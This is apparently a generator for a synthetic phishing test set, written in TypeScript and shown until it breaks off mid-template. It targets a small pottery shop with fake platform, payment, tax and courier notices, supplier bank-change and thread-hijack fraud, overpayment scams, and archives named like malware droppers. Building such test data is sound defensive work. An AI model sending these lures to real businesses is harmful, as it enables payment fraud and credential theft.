// The sixteenth unseen phishing set: what reaches a small online shop's mailboxes (Saltmarsh Ceramics, a
// ten-person pottery selling on its own Shopify store, Etsy, Amazon and eBay, and wholesale in Europe) in
// 2024-2026 - fake platform, payment and marketplace notices, page and ad-account lures, fake renewals and
// invoices, "damaged item" photos, bulk-order archives, overpayment and shipping-agent scams, supplier bank
// changes, tax and courier lures, review extortion, gift-card asks and QR invoices, in English with German,
// French, Spanish and Dutch. Written blind: from the brief's description of such mail and public knowledge
// of these campaigns, without reading the desk, its data, tests or earlier sets, and never run against it.
import type { SeededRandom } from './generate.js';
import { diskImage, macroWorkbook, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING } from './unseen-16-local.js';
import {
  auth,
  buildSet,
  type Letter,
  OWNER,
  PDF,
  type Scene,
  SHOP,
  STAFF,
  type Template,
  ZIP,
} from './unseen-16-scene.js';
import { onePagePdf, protectedZip } from './unseen-payloads.js';

const hello = (s: Scene, name?: string) =>
  s.pick([
    'Hello,',
    'Dear Merchant,',
    'Dear Seller,',
    `Hi ${name ?? 'there'},`,
    'Dear customer,',
    'Hello Seller,',
  ]);

/** A brand notice from an attacker's domain named after the brand, or the brand's own name spoofed. */
function brandSender(s: Scene, words: string[], realDomain: string, mailbox: string) {
  if (s.chance(0.25)) {
    const relay = s.attackerDomain(['mail', s.token(5)]);
    return { from: `${mailbox}@${realDomain}`, auth: auth.spoofed(relay, s.random), domain: relay };
  }
  const domain = s.attackerDomain(words);
  return { from: `${mailbox}@${s.pick(['', 'notify.', 'mail.'])}${domain}`, auth: auth.own(domain), domain };
}

const ENGLISH: Template[] = [
  {
    name: 'shopify-payouts-paused',
    kind: 'store-platform-payout-hold',
    make(s) {
      const sender = brandSender(s, ['shopify', 'payouts'], 'shopify.com', s.pick(['no-reply', 'payments']));
      return {
        fromName: s.pick(['Shopify Payments', 'Shopify', 'Shopify Balance']),
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your payouts have been paused',
          'Action needed: payouts on hold for your store',
          `Payouts for ${SHOP} are temporarily on hold`,
        ]),
        greeting: hello(s, OWNER.name.split(' ')[0]),
        paragraphs: [
          s.pick([
            `We were unable to verify the business information on file for ${SHOP}. Until this is resolved, payouts of ${s.pounds(800, 9000)} are on hold.`,
            'Our risk team has placed a temporary hold on your payouts while we review recent transactions on your store.',
          ]),
          s.pick([
            'Please confirm your identity and bank details within 48 hours to release your funds.',
            'To avoid your store being closed, complete verification before the end of the review period.',
          ]),
        ],
        button: {
          label: s.pick(['Verify account', 'Release payouts', 'Complete verification']),
          href: s.chance(0.7)
            ? s.attackerLink(sender.domain, ['admin/verify', 'payouts/kyc'])
            : s.hostedLink(),
        },
        signoff: 'The Shopify Payments team',
      };
    },
  },
  {
    name: 'shopify-store-policy-closure',
    kind: 'store-platform-policy-violation',
    make(s) {
      const sender = brandSender(s, ['shopify', 'merchant'], 'shopify.com', 'support');
      return {
        fromName: s.pick(['Shopify Support', 'Shopify Trust & Safety', 'Shopify Compliance']),
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your store has been flagged for an Acceptable Use Policy violation',
          `Notice of store closure - ${s.token(6).toUpperCase()}`,
          'Final warning: store will be deactivated',
        ]),
        greeting: hello(s),
        paragraphs: [
          `We received ${s.pick(['multiple reports', 'a complaint', 'an intellectual property claim'])} about products listed on ${s.pick(['your store', 'saltmarshceramics.myshopify.com'])}.`,
          s.pick([
            'If you believe this is a mistake, you can submit an appeal. Stores that do not respond within 24 hours are permanently closed.',
            'Please review the report and respond, otherwise your storefront will be disabled and pending payouts withheld.',
          ]),
        ],
        button: {
          label: s.pick(['Submit appeal', 'Review report']),
          href: s.attackerLink(sender.domain, ['appeal', 'case/review']),
        },
        signoff: 'Shopify',
      };
    },
  },
  {
    name: 'stripe-business-details',
    kind: 'payment-processor-verification',
    make(s) {
      const sender = brandSender(s, ['stripe', 'dashboard'], 'stripe.com', 'notifications');
      return {
        fromName: 'Stripe',
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Update your business details to keep accepting payments',
          'Your Stripe account requires attention',
          'Payments will be disabled: missing information',
        ]),
        greeting: hello(s),
        paragraphs: [
          s.pick([
            'To comply with financial regulations we need more information about your business. Charges will be disabled on your account if it is not provided.',
            'We were unable to verify your account representative. Your payouts are paused until the details are updated.',
          ]),
          `Deadline: ${s.day()}.`,
        ],
        button: {
          label: 'Update details',
          href: s.attackerLink(sender.domain, ['account/onboarding', 'connect/verify']),
        },
        signoff: 'The Stripe team',
      };
    },
  },
  {
    name: 'paypal-dispute-respond',
    kind: 'payment-dispute-lure',
    make(s) {
      const sender = brandSender(s, ['paypal', 'resolution'], 'paypal.com', 'service');
      const amount = s.pounds(40, 480);
      return {
        fromName: s.pick(['PayPal', 'PayPal Resolution Centre', 'service@paypal.co.uk']),
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          `A buyer has opened a dispute - case PP-D-${s.digits(9)}`,
          `Respond to the claim for ${amount}`,
          'Funds on hold: buyer claims item not received',
        ]),
        greeting: hello(s, OWNER.name),
        paragraphs: [
          `${s.person()} has opened a dispute for a payment of ${amount} (${s.product()}), saying the item ${s.pick(['was not received', 'arrived damaged', 'is not as described'])}.`,
          'We have placed a hold on the funds. Please provide proof of delivery within 3 days or the case will be closed in the buyer’s favour.',
        ],
        button: {
          label: 'Respond to dispute',
          href: s.attackerLink(sender.domain, ['resolutioncenter', 'disputes/respond']),
        },
        signoff: 'Sincerely, PayPal',
      };
    },
  },
  {
    name: 'chargeback-notice-pdf',
    kind: 'chargeback-pdf-link',
    make(s) {
      const domain = s.attackerDomain([s.pick(['merchant', 'card']), s.pick(['disputes', 'chargeback'])]);
      const link = s.attackerLink(domain, ['evidence/upload', 'cb/portal']);
      const ref = `CB-${s.digits(8)}`;
      return {
        fromName: s.pick(['Chargeback Department', 'Merchant Disputes', 'Card Services - Disputes']),
        from: `disputes@${domain}`,
        auth: auth.own(domain),
        subject: `Chargeback notification ${ref} - response required`,
        greeting: hello(s),
        paragraphs: [
          s.pick([
            `A cardholder has disputed a transaction of ${s.pounds(60, 900)} with your business. The attached notice explains the reason code and the evidence required.`,
            `We have debited ${s.pounds(60, 900)} plus a £15.00 chargeback fee from your settlement account following a cardholder dispute. Details are in the attached notice.`,
            `Your acquiring bank has received a retrieval request and chargeback for card payment ${s.digits(6)}. See the attached notification.`,
          ]),
          s.pick([
            'Please upload your evidence through the merchant portal linked in the notice before the deadline.',
            'If no evidence is received within 5 working days the chargeback will be accepted on your behalf.',
            'Use the secure link in the PDF to submit proof of delivery and your terms of sale.',
          ]),
        ],
        parts: [
          {
            type: PDF,
            name: `${ref}.pdf`,
            content: onePagePdf(
              [
                'Chargeback Notification',
                `Reference: ${ref}`,
                'Reason code 13.1 Merchandise not received',
                'Upload evidence',
              ],
              { link },
            ),
          },
        ],
        signoff: 'Disputes team',
      };
    },
  },
  {
    name: 'etsy-shop-verification',
    kind: 'marketplace-seller-verification',
    make(s) {
      const sender = brandSender(s, ['etsy', 'seller'], 'etsy.com', 'transaction');
      return {
        fromName: s.pick(['Etsy', 'Etsy Seller Support', 'Etsy Payments']),
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your Etsy shop has been suspended',
          'Verify your identity to keep selling on Etsy',
          'Action required: Etsy Payments account',
        ]),
        greeting: hello(s, 'SaltmarshCeramics'),
        paragraphs: [
          s.pick([
            'As part of our seller verification programme, we need to confirm your identity and bank information. Your listings are hidden until this is completed.',
            'Your shop has been placed under review because of unusual activity. Verify your account to restore your listings and deposits.',
          ]),
        ],
        button: {
          label: s.pick(['Verify now', 'Go to Shop Manager']),
          href: s.attackerLink(sender.domain, ['your/shops/verify', 'signin']),
        },
        signoff: 'Thanks, Etsy',
      };
    },
  },
  {
    name: 'etsy-buyer-pay-link',
    kind: 'marketplace-fake-sale-payment',
    make(s) {
      const buyer = s.person();
      const address = s.freemail(buyer);
      const host = s.attackerDomain(['etsy', 'safe', 'pay']);
      return {
        fromName: buyer,
        from: address,
        auth: auth.freemail(address),
        subject: s.pick([
          'Question about your item',
          'I want to buy your mugs',
          'Payment sent for your listing',
        ]),
        greeting: 'Hello,',
        paragraphs: [
          `I am interested in your ${s.product()} and I have already made payment through Etsy secure checkout.`,
          s.pick([
            'Etsy says you need to confirm receipt of the funds before they are released to you. Please follow their link to confirm.',
            'To receive the money you must verify your card on the Etsy payment page, it is quick.',
          ]),
        ],
        button: { label: 'Receive funds', href: s.attackerLink(host, ['receive', 'confirm-order']) },
        signoff: `Thanks\n${buyer.split(' ')[0]}`,
        shape: s.pick(['text', 'html'] as const),
      };
    },
  },
  {
    name: 'amazon-listing-deactivated',
    kind: 'marketplace-listing-deactivated',
    make(s) {
      const sender = brandSender(s, ['seller', 'central'], 'amazon.co.uk', 'seller-notification');
      return {
        fromName: s.pick(['Amazon Seller Central', 'Amazon Services', 'Seller Performance']),
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your Amazon selling privileges have been removed',
          'Listings deactivated - policy violation',
          'Account health: action required',
        ]),
        greeting: hello(s),
        paragraphs: [
          `We have deactivated ${s.between(3, 40)} of your listings because of ${s.pick(['suspected intellectual property infringement', 'an inauthentic item complaint', 'a product safety concern'])}.`,
          'To reactivate your account, submit a Plan of Action and verify your account information.',
        ],
        button: {
          label: 'Reactivate listings',
          href: s.attackerLink(sender.domain, ['performance/appeal', 'ap/signin']),
        },
        signoff: 'Seller Performance Team',
      };
    },
  },
  {
    name: 'ebay-unpaid-fees',
    kind: 'marketplace-unpaid-fees',
    make(s) {
      const sender = brandSender(s, ['ebay', 'billing'], 'ebay.co.uk', 'ebay');
      return {
        fromName: 'eBay',
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your seller fees are overdue',
          'Your eBay account has been restricted',
          'Final reminder: outstanding balance',
        ]),
        greeting: hello(s),
        paragraphs: [
          `Your payment of ${s.pounds(20, 320)} for selling fees could not be collected. Your account is now restricted and your listings will end.`,
          'Update your payment method to remove the restriction.',
        ],
        button: { label: 'Pay now', href: s.attackerLink(sender.domain, ['billing/pay', 'myebay/fees']) },
        signoff: 'eBay',
      };
    },
  },
  {
    name: 'meta-page-copyright',
    kind: 'page-copyright-disable',
    make(s) {
      const domain = s.attackerDomain(['meta', s.pick(['appeal', 'business', 'rights'])]);
      const fromFree = s.chance(0.4);
      const from = fromFree ? `meta.case${s.digits(4)}@gmail.com` : `noreply@${domain}`;
      return {
        fromName: s.pick([
          'Meta Business',
          'Meta for Business',
          'Facebook Page Support',
          'Meta Rights Manager',
        ]),
        from,
        auth: fromFree ? auth.freemail(from) : auth.own(domain),
        subject: s.pick([
          'Your Page will be disabled - copyright infringement',
          `Case #${s.digits(15)}: intellectual property report`,
          'Final notice: your page has been scheduled for deletion',
        ]),
        greeting: hello(s),
        paragraphs: [
          'We have received a report that content on your Page infringes the copyright of another party. Your Page has been scheduled for permanent removal.',
          s.pick([
            'If you think this is a mistake, you can file an appeal within 24 hours.',
            'To keep your Page, confirm you are the owner and submit an appeal. Unanswered cases are closed automatically.',
          ]),
        ],
        button: {
          label: s.pick(['Appeal decision', 'Request review']),
          href: s.chance(0.5) ? s.hostedLink() : s.attackerLink(domain, ['appeal', 'help/case']),
        },
        signoff: 'Meta Platforms, Inc., 1 Meta Way, Menlo Park, CA 94025',
      };
    },
  },
  {
    name: 'meta-ad-account-restricted',
    kind: 'ad-account-restricted',
    make(s) {
      const sender = brandSender(s, ['meta', 'ads'], 'facebookmail.com', 'advertise-noreply');
      return {
        fromName: s.pick(['Meta Ads', 'Facebook Ads Team']),
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your ad account has been restricted',
          'Ads paused: unusual activity on your ad account',
        ]),
        greeting: hello(s, s.staff().name.split(' ')[0]),
        paragraphs: [
          `Your ad account ${s.digits(15)} has been restricted from advertising because of suspicious payment activity.`,
          'Verify your identity and payment method to restore your campaigns.',
        ],
        button: {
          label: 'Verify account',
          href: s.attackerLink(sender.domain, ['adsmanager/verify', 'business/help']),
        },
        signoff: 'Meta Ads Team',
      };
    },
  },
  {
    name: 'google-ads-payment-failed',
    kind: 'ad-billing-lure',
    make(s) {
      const sender = brandSender(s, ['google', 'ads', 'billing'], 'google.com', 'ads-account-noreply');
      return {
        fromName: 'Google Ads',
        from: sender.from,
        auth: sender.auth,
        subject: s.pick([
          'Your ads have stopped running: payment declined',
          'Google Ads: action required on your billing',
        ]),
        greeting: hello(s),
        paragraphs: [
          `We could not charge your payment method for ${s.pounds(80, 600)}. Your campaigns have been paused.`,
          'Sign in to update your billing information.',
        ],
        button: { label: 'Fix payment', href: s.attackerLink(sender.domain, ['aw/billing', 'signin/ads']) },
        signoff: 'The Google Ads Team',
      };
    },
  },
  {
    name: 'merchant-center-suspension',
    kind: 'shopping-feed-suspension',
    make(s) {
      const domain = s.attackerDomain(['merchant', 'center', 'google']);
      return {
        fromName: 'Google Merchant Center',
        from: `no-reply@${domain}`,
        auth: auth.own(domain),
        subject: s.pick([
          'Your Merchant Center account has been suspended for misrepresentation',
          'Account suspension: Shopping ads stopped',
          'Warning: products will be removed from Google Shopping',
        ]),
        greeting: hello(s),
        paragraphs: [
          s.pick([
            'Your products have been disapproved and your account suspended because your website does not meet our requirements.',
            `${s.between(20, 300)} of your products stopped showing in Shopping ads because of a policy violation (misrepresentation).`,
          ]),
          s.pick([
            'You can request a review once you have verified your website and business information.',
            'Verify your business within 7 days or the suspension becomes permanent.',
          ]),
        ],
        button: { label: 'Request review', href: s.attackerLink(domain, ['mc/review', 'verify']) },
        signoff: 'Google Merchant Center',
      };
    },
  },
  {
    name: 'domain-expiry-notice',
    kind: 'fake-domain-renewal',
    make(s) {
      const domain = s.attackerDomain([
        s.pick(['domain', 'dns', 'web']),
        s.pick(['renewal', 'registry', 'services']),
      ]);
      return {
        fromName: s.pick(['Domain Services', 'Domain Registry Notice', 'DNS Renewal Department']),
        from: `renewals@${domain}`,
        auth: auth.own(domain),
        to: OWNER.address,
        subject: s.pick([
          'FINAL NOTICE: corp.example expires in 3 days',
          'Domain corp.example - suspension notice',
          'Renewal of corp.example required',
        ]),
        greeting: hello(s),
        paragraphs: [
          'The domain corp.example is due to expire. When it expires, your website and email will stop working and the name may be taken by someone else.',
          `Renew now for ${s.pounds(29, 89)} per year to keep your online presence.`,
        ],
        button: { label: 'Renew domain', href: s.attackerLink(domain, ['renew', 'checkout']) },
        footer: 'You are receiving this notice as the registrant contact of the domain.',
      };
    },
  },
  {
    name: 'ssl-certificate-expiry',
    kind: 'fake-ssl-renewal',
    make(s) {
      const domain = s.attackerDomain(['ssl', s.pick(['cert', 'secure', 'trust'])]);
      return {
        fromName: s.pick(['SSL Certificate Authority', 'Certificate Services', 'Security Alert']),
        from: `alerts@${domain}`,
        auth: auth.own(domain),
        subject: s.pick([
          `SSL certificate for ${s.pick(['shop.corp.example', 'www.corp.example'])} expires today`,
          'Your customers will see a "Not Secure" warning',
        ]),
        greeting: hello(s),
        paragraphs: [
          'The SSL certificate protecting your checkout is about to expire. Browsers will warn visitors that your store is unsafe and orders will drop.',
          'Renew the certificate now to avoid interruption.',
        ],
        button: { label: 'Renew SSL', href: s.attackerLink(domain, ['renew-ssl', 'order']) },
      };
    },
  },
  {
    name: 'seo-listing-invoice',
    kind: 'seo-directory-invoice',
    make(s) {
      const domain = s.attackerDomain([
        s.pick(['seo', 'search', 'web']),
        s.pick(['listing', 'index', 'directory']),
      ]);
      const ref = `INV-${s.digits(6)}`;
      return {
        fromName: s.pick(['Search Engine Listing Services', 'Web Directory Billing', 'SEO Registration']),
        from: `billing@${domain}`,
        auth: auth.own(domain),
        to: 'accounts@corp.example',
        subject: `Invoice ${ref} - search engine submission for corp.example`,
        greeting: hello(s),
        paragraphs: [
          `Your annual search engine listing for corp.example is due. Amount: ${s.pounds(79, 399)}.`,
          'Failure to complete payment may result in your site being removed from search listings.',
        ],
        button: { label: 'Pay invoice', href: s.attackerLink(domain, ['pay', 'invoice']) },
        parts: s.chance(0.5)
          ? [
              {
                type: PDF,
                name: `${ref}.pdf`,
                content: onePagePdf(['INVOICE', ref, 'Search engine submission - 12 months', 'Pay online']),
              },
            ]
          : [],
        footer: 'This is not a bill. This is a solicitation.',
      };
    },
  },
  {
    name: 'customer-damaged-photos-link',
    kind: 'customer-complaint-photo-link',
    make(s) {
      const name = s.person();
      const address = s.freemail(name);
      return {
        fromName: name,
        from: address,
        auth: auth.freemail(address),
        subject: s.pick([
          `Order ${s.order()} arrived broken`,
          'Photos of the damaged item',
          'Very disappointed - smashed parcel',
        ]),
        greeting: s.pick(['Hi,', 'Hello', 'To whom it may concern,']),
        paragraphs: [
          `My ${s.product()} arrived in pieces. I have taken photos of the box and the damage, they are too big to attach so I uploaded them here.`,
          s.pick(['I would like a full refund please.', 'Please look and tell me how you will fix this.']),
        ],
        button: {
          label: s.pick(['View photos', 'Photos (Dropbox)', 'damaged_item_photos.zip']),
          href: s.chance(0.5)
            ? s.hostedLink()
            : s.attackerLink(s.attackerDomain(['photo', 'share']), ['album', 'f']),
        },
        signoff: name.split(' ')[0],
        shape: s.pick(['text', 'html'] as const),
      };
    },
  },
  {
    name: 'customer-damaged-photos-archive',
    kind: 'customer-complaint-malware-archive',
    make(s) {
      const name = s.person();
      const address = s.freemail(name);
      const inner = s.pick([
        'IMG_2024_damaged.jpg.lnk',
        'photos_broken_parcel.js',
        'IMG_0453.scr',
        'Damage_Report.vbs',
      ]);
      const archive = s.pick(['Photos.zip', 'damaged_item.zip', 'IMG_photos.zip']);
      const password = s.digits(4);
      const protectedArchive = s.chance(0.5);
      return {
        fromName: name,
        from: address,
        auth: auth.freemail(address),
        subject: s.pick([
          'Broken items - photos attached',
          `Complaint order ${s.order()}`,
          'pictures of damage',
        ]),
        greeting: 'Hello,',
        paragraphs: [
          'The parcel arrived today and two of the pieces are cracked. See the photos in the attachment.',
          protectedArchive ? `The archive password is ${password}.` : 'Please reply quickly.',
        ],
        parts: [
          {
            type: ZIP,
            name: archive,
            content: protectedArchive ? protectedZip(inner, s.number) : zipOf(inner),
          },
        ],
        signoff: name,
        shape: 'text',
      };
    },
  },
  {
    name: 'photographer-image-copyright',
    kind: 'image-copyright-claim',
    make(s) {
      const name = s.person();
      const address = s.freemail(name);
      return {
        fromName: name,
        from: address,
        auth: auth.freemail(address),
        subject: s.pick([
          'Copyright infringement on your website',
          'You are using my photos without permission',
          'Legal notice - image use',
        ]),
        greeting: 'Hello,',
        paragraphs: [
          `I am a professional photographer and I found my images on your website ${s.pick(['corp.example', 'your shop'])} without a licence.`,
          'I have collected the images and the original files as evidence in the document below. Remove them within 48 hours or I will take legal action.',
        ],
        button: { label: 'Download the evidence', href: s.hostedLink() },
        signoff: `${name}\nPhotography`,
      };
    },
  },
  {
    name: 'bulk-order-rfq-archive',
    kind: 'bulk-order-archive',
    make(s) {
      const name = s.person();
      const company = `${s.pick(['Pacific', 'Golden Star', 'Meridian', 'Alpine', 'Eurolink'])} ${s.pick(['Trading', 'Imports', 'Hospitality Group', 'Procurement'])}`;
      const domain = s.attackerDomain([
        company.split(' ')[0].toLowerCase(),
        s.pick(['trading', 'group', 'ltd']),
      ]);
      const kind = s.pick(['iso', 'img', 'zip', 'one'] as const);
      const parts = {
        iso: { type: 'application/x-iso9660-image', name: 'Purchase_Order_RFQ.iso', content: diskImage() },
        img: { type: 'application/octet-stream', name: 'RFQ_Specifications.img', content: diskImage() },
        zip: { type: ZIP, name: 'Order_list.zip', content: zipOf('Order_list_pdf.exe') },
        one: {
          type: 'application/onenote',
          name: 'Quotation_request.one',
          content: oneNote('Quotation.hta'),
        },
      };
      return {
        fromName: `${name} | ${company}`,
        from: `purchasing@${domain}`,
        auth: auth.own(domain),
        to: s.pick(['info@corp.example', 'orders@corp.example', STAFF[3].address]),
        subject: s.pick([
          'Request for quotation',
          'RFQ - bulk order of tableware',
          'New order inquiry',
          'Purchase order',
        ]),
        greeting: s.pick(['Dear Sir/Madam,', 'Good day,', 'Hello,']),
        paragraphs: [
          `We are interested in ordering ${s.between(200, 3000)} pieces of your tableware for ${s.pick(['a new hotel opening', 'our restaurant chain', 'a corporate gift order'])}.`,
          'Please find attached our specifications and quantities, and send your best price and delivery time.',
        ],
        parts: [parts[kind]],
        signoff: `Best regards\n${name}\nProcurement Manager\n${company}`,
      };
    },
  },
  {
    name: 'bulk-order-pdf-login',
    kind: 'bulk-order-document-link',
    make(s) {
      const name = s.person();
      const domain = s.attackerDomain([
        s.pick(['docs', 'files', 'secure']),
        s.pick(['share', 'view', 'vault']),
      ]);
      const link = s.attackerLink(domain, ['view', 'doc']);
      return {
        fromName: name,
        from: `${name.toLowerCase().replace(' ', '.')}@${s.attackerDomain([s.pick(['interiors', 'homestore', 'retail']), 'uk'])}`,
        auth: { spf: 'pass', mailfrom: `bounce@${domain}`, dkim: 'pass', dkimDomain: domain, dmarc: 'none' },
        to: STAFF[3].address,
        subject: s.pick([
          'Wholesale order - PO attached',
          'Purchase order for your review',
          'Quote needed urgently',
        ]),
        greeting: 'Hi,',
        paragraphs: [
          s.pick([
            `Please see our purchase order for ${s.between(50, 600)} units. The document is secured, sign in with your email to view it.`,
            `Our buyer approved your range for ${s.between(4, 30)} stores. The PO is attached - open it with your business email to confirm the prices.`,
            'Following our call, the order is in the attached PDF. Kindly confirm availability today so we can raise payment.',
          ]),
        ],
        parts: [
          {
            type: PDF,
            name: `PO_${s.digits(5)}.pdf`,
            content: onePagePdf(['Purchase Order', 'Secure document', 'View document'], { link }),
          },
        ],
        signoff: name,
      };
    },
  },
  {
    name: 'overpayment-refund',
    kind: 'overpayment-scam',
    make(s) {
      const name = s.person();
      const address = s.freemail(name, ['gmail.com', 'outlook.com', 'yahoo.com']);
      const extra = s.between(600, 2400);
      return {
        fromName: name,
        from: address,
        auth: auth.freemail(address),
        to: 'orders@corp.example',
        subject: s.pick([
          'Overpayment - please refund the difference',
          'I paid too much by mistake',
          'Refund of excess payment',
        ]),
        greeting: 'Hello,',
        paragraphs: [
          `I have sent payment for my order but my secretary made a mistake and sent £${extra} too much.`,
          'Please kindly refund the difference by bank transfer to my shipping agent below, they will collect the goods also.',
          `Agent account: ${s.pick(['Global Freight Movers', 'Swift Cargo Agency'])}, sort code ${s.digits(2)}-${s.digits(2)}-${s.digits(2)}, account ${s.digits(8)}`,
        ],
        signoff: `God bless\n${name}`,
        shape: 'text',
      };
    },
  },
  {
    name: 'shipping-agent-pickup',
    kind: 'fake-shipping-agent',
    make(s) {
      const buyer = s.person();
      const agent = s.attackerDomain([
        s.pick(['express', 'global', 'royal']),
        s.pick(['cargo', 'freight', 'logistics']),
      ]);
      return {
        fromName: s.pick(['Express Cargo Logistics', 'Global Freight Pickup', 'Royal Courier Agency']),
        from: `dispatch@${agent}`,
        auth: auth.own(agent),
        to: 'orders@corp.example',
        subject: `Pickup arrangement for order of ${buyer}`,
        greeting: 'Dear Seller,',
        paragraphs: [
          `We have been hired by our client ${buyer} to collect the items purchased from your store.`,
          `Before pickup you are required to pay the insurance and handling fee of £${s.between(150, 450)}, which will be refunded together with the goods payment.`,
          'Confirm the pickup address and pay through our portal.',
        ],
        button: { label: 'Confirm pickup', href: s.attackerLink(agent, ['pickup', 'track']) },
        signoff: 'Dispatch Department',
      };
    },
  },
  {
    name: 'supplier-bank-change',
    kind: 'supplier-bank-change',
    make(s) {
      const supplier = s.pick(['claymill', 'kilnworks', 'boxpack', 'glazeco']);
      const fake = `${supplier}${s.pick(['-uk', '-ltd', 'ltd', '-supplies'])}.${s.pick(['com', 'co', 'net'])}`;
      const contact = s.person();
      return {
        fromName: `${contact} (${supplier[0].toUpperCase()}${supplier.slice(1)})`,
        from: `accounts@${fake}`,
        auth: auth.own(fake),
        to: 'accounts@corp.example',
        subject: s.pick([
          'Change of bank details',
          'Updated remittance information',
          'Important: our new bank account',
        ]),
        greeting: 'Dear Customer,',
        paragraphs: [
          'Please note that due to an audit our bank account has changed. All future payments, including the outstanding invoices, should be made to the new account below.',
          `Account name: ${supplier.toUpperCase()} LTD, sort code ${s.digits(2)}-${s.digits(2)}-${s.digits(2)}, account ${s.digits(8)}.`,
          'Kindly confirm once you have updated your records. We are unable to take calls this week due to the audit.',
        ],
        signoff: `Kind regards\n${contact}\nAccounts`,
        shape: s.pick(['text', 'both'] as const),
      };
    },
  },
  {
    name: 'hijacked-supplier-thread',
    kind: 'supplier-thread-hijack',
    make(s) {
      const contact = s.person();
      const real = 'claymill-supplies.example';
      const lookalike = s.pick([
        'clayrnill-supplies.com',
        'claymill-suppiies.com',
        'claymil-supplies.com',
        'claymill-supplles.com',
      ]);
      const invoice = `CM-${s.digits(5)}`;
      return {
        fromName: contact,
        from: `${contact.split(' ')[0].toLowerCase()}@${lookalike}`,
        auth: auth.own(lookalike),
        to: STAFF[6].address,
        cc: `orders@${real}`,
        subject: `RE: Invoice ${invoice} - ${s.pick(['stoneware clay delivery', 'glaze order', 'kiln shelves'])}`,
        inReplyTo: `<${s.token(14)}@${real}>`,
        greeting: `Hi ${STAFF[6].name.split(' ')[0]},`,
        paragraphs: [
          `Thanks for confirming. Please hold payment to the account on the invoice; we are moving banks and the old account cannot receive funds at the moment.`,
          `I will send the updated details on headed paper shortly. Could you let me know the amount you are paying this week (${s.pounds(800, 6400)} I believe)?`,
          `> On ${s.between(1, 27)} Nov 2026, at ${s.between(9, 17)}:${s.between(10, 59)}, ${STAFF[6].name} wrote:\n> Hi, invoice ${invoice} is approved for payment this week.`,
        ],
        signoff: `${contact}\nClaymill Supplies`,
        shape: 'text',
      };
    },
  },
  {
    name: 'compromised-supplier-share',
    kind: 'compromised-supplier-account',
    make(s) {
      const contact = s.pick(['Dave Pearce', 'Lorna Whitfield', 'Martin Cole']);
      const domain = 'kilnworks.example';
      const address = `${contact.split(' ')[0].toLowerCase()}@${domain}`;
      return {
        fromName: `${contact} | Kilnworks Ltd`,
        from: address,
        auth: auth.genuine(domain),
        to: s.pick(['accounts@corp.example', STAFF[6].address, STAFF[4].address]),
        subject: s.pick([
          'Kilnworks Ltd shared "Statement of account" with you',
          `Updated invoice and statement - ${SHOP}`,
          'Outstanding balance - please review',
        ]),
        greeting: s.pick(['Hi,', 'Good afternoon,', 'Hello,']),
        paragraphs: [
          s.pick([
            'Please find your statement of account and the latest invoice in the secure folder below. Our system has been upgraded so invoices now come through our document portal.',
            `We have shared the revised invoice for the kiln service (${s.pounds(180, 1600)}). Please review at your earliest convenience.`,
          ]),
          s.pick([
            'You may need to sign in with your work email to open it.',
            'The link expires in 48 hours.',
          ]),
        ],
        button: { label: s.pick(['View documents', 'Open folder', 'Review invoice']), href: s.hostedLink() },
        signoff: `Kind regards\n${contact}\nKilnworks Ltd - kiln sales & servicing`,
      };
    },
  },
  {
    name: 'hmrc-vat-refund',
    kind: 'fake-tax-refund',
    make(s) {
      const domain = s.attackerDomain(['hmrc', s.pick(['refund', 'vat', 'gov'])]);
      return {
        fromName: s.pick(['HMRC', 'HM Revenue & Customs', 'GOV.UK']),
        from: `no-reply@${domain}`,
        auth: auth.own(domain),
        to: s.pick(['accounts@corp.example', OWNER.address]),
        subject: s.pick([
          'VAT refund notification',
          'You are eligible for a VAT repayment',
          'Your VAT account: payment pending',
        ]),
        greeting: hello(s),
        paragraphs: [
          `After the last annual calculation of your VAT activity we have determined that you are eligible to receive a repayment of ${s.pounds(300, 2800)}.`,
          'Please submit the repayment request and confirm your bank details to allow us to process it.',
        ],
        button: { label: 'Claim repayment', href: s.attackerLink(domain, ['vat/repayment', 'claim']) },
        signoff: 'HM Revenue & Customs',
      };
    },
  },
  {
    name: 'courier-pickup-failed',
    kind: 'fake-courier-pickup',
    make(s) {
      const sender = brandSender(s, ['dhl', s.pick(['express', 'pickup'])], 'dhl.com', 'noreply');
      return {
        fromName: s.pick(['DHL Express', 'DHL Pickup Services']),
        from: sender.from,
        auth: sender.auth,
        to: 'orders@corp.example',
        subject: s.pick([
          'Pickup failed - reschedule your collection',
          `Your collection ${s.digits(10)} could not be completed`,
        ]),
        greeting: hello(s),
        paragraphs: [
          'Our driver was unable to collect your shipment today because the address details were incomplete.',
          `Please confirm your details and pay the rescheduling fee of £${s.between(1, 3)}.${s.digits(2)} to book a new pickup.`,
        ],
        button: {
          label: 'Reschedule pickup',
          href: s.chance(0.5) ? s.hostedLink() : s.attackerLink(sender.domain, ['pickup', 'reschedule']),
        },
        signoff: 'DHL Express',
      };
    },
  },
  {
    name: 'customs-duty-supplies',
    kind: 'fake-customs-fee',
    make(s) {
      const domain = s.attackerDomain([
        s.pick(['ups', 'parcel', 'import']),
        s.pick(['customs', 'duty', 'clearance']),
      ]);
      return {
        fromName: s.pick(['Customs Clearance', 'UPS Import Services', 'Parcel Customs Office']),
        from: `clearance@${domain}`,
        auth: auth.own(domain),
        subject: s.pick(['Import duty due on your shipment', 'Your parcel is held at customs']),
        greeting: hello(s),
        paragraphs: [
          `A shipment for ${SHOP} from ${s.pick(['China', 'Portugal', 'Turkey', 'the United States'])} is held pending payment of import charges of £${s.between(8, 95)}.${s.digits(2)}.`,
          'If the charges are not paid within 72 hours, the parcel will be returned to the sender.',
        ],
        button: { label: 'Pay charges', href: s.attackerLink(domain, ['pay', 'duty']) },
      };
    },
  },
  {
    name: 'review-extortion',
    kind: 'review-extortion',
    make(s) {
      const name = s.pick(['Reputation Guard', 'Review Team', 'A concerned customer']);
      const address = s.freemail(s.person(), ['gmail.com', 'proton.me', 'outlook.com']);
      return {
        fromName: name,
        from: address,
        auth: auth.freemail(address),
        to: OWNER.address,
        subject: s.pick([
          'Your reviews',
          `${SHOP} - 1 star campaign`,
          'Business proposal regarding your ratings',
        ]),
